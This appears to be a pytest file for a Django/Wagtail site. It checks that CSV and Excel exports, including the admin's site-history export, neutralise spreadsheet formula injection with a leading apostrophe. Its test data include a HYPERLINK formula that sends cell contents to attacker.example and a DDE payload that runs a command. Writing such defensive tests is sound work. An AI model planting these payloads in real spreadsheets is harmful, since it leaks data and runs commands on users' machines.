"""CSV exports never hand a spreadsheet a formula (issue 19, item 12): a text cell starting with
=, +, -, @, a tab or a carriage return is written with an apostrophe in front; numbers are left
alone. Our own reports go through core.downloads; the Wagtail admin's exports are covered too.
Excel workbooks (core.downloads.xlsx_download, the course runs' learner lists) store such a cell
as text, never a formula, with the same apostrophe."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.log_actions import log
from wagtail.models import Page

from core.downloads import csv_download, xlsx_download
from tests.factories import UserFactory

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"詳細")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def cells(response) -> list[list[str]]:
    body = b"".join(response) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_download_neutralises_formulas_and_keeps_numbers():
    response = csv_download("x.csv", ["=見出し", "件数"], [[text, 12, -3, 4.5] for text in HOSTILE])
    rows = cells(response)
    assert rows[0] == ["'=見出し", "件数"]
    for text, row in zip(HOSTILE, rows[1:], strict=True):
        assert row == ["'" + text, "12", "-3", "4.5"]
    # Ordinary text is untouched.
    assert cells(csv_download("y.csv", ["名前"], [["府中町"], ["a=b"]]))[1:] == [
        ["府中町"],
        ["a=b"],
    ]


def test_xlsx_download_stores_text_never_formulas():
    moment = datetime.datetime(2026, 12, 7, 3, 0, tzinfo=datetime.UTC)
    response = xlsx_download(
        "x.xlsx",
        ["=見出し", "件数", "日付", "時刻"],
        [[text, 12, datetime.date(2026, 12, 28), moment] for text in HOSTILE],
        title="受講者/一覧:[1]",
    )
    assert response["Content-Disposition"] == 'attachment; filename="x.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "受講者一覧1"
    rows = list(sheet.iter_rows())
    assert rows[0][0].value == "'=見出し" and rows[0][0].font.bold
    for text, row in zip(HOSTILE, rows[1:], strict=True):
        assert [cell.data_type for cell in row[:2]] == ["s", "n"]
        # XML reads a carriage return back as a line feed; the apostrophe is what matters.
        assert row[0].value == "'" + text.replace("\r", "\n")
        assert row[1].value == 12
        assert row[2].value == datetime.datetime(2026, 12, 28)
        assert row[3].value == datetime.datetime(2026, 12, 7, 12, 0)  # Japan time, no zone


@pytest.mark.django_db
def test_wagtail_admin_csv_exports_neutralise_formulas(client, home_page):
    admin = UserFactory(email="admin@example.jp", is_staff=True, is_superuser=True)
    page = home_page.add_child(instance=Page(title=HOSTILE[0], slug="hostile"))
    log(instance=page, action="wagtail.create", user=admin)
    client.force_login(admin)
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    assert response.status_code == 200
    rows = cells(response)
    titles = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE[0] in titles
    assert HOSTILE[0] not in titles
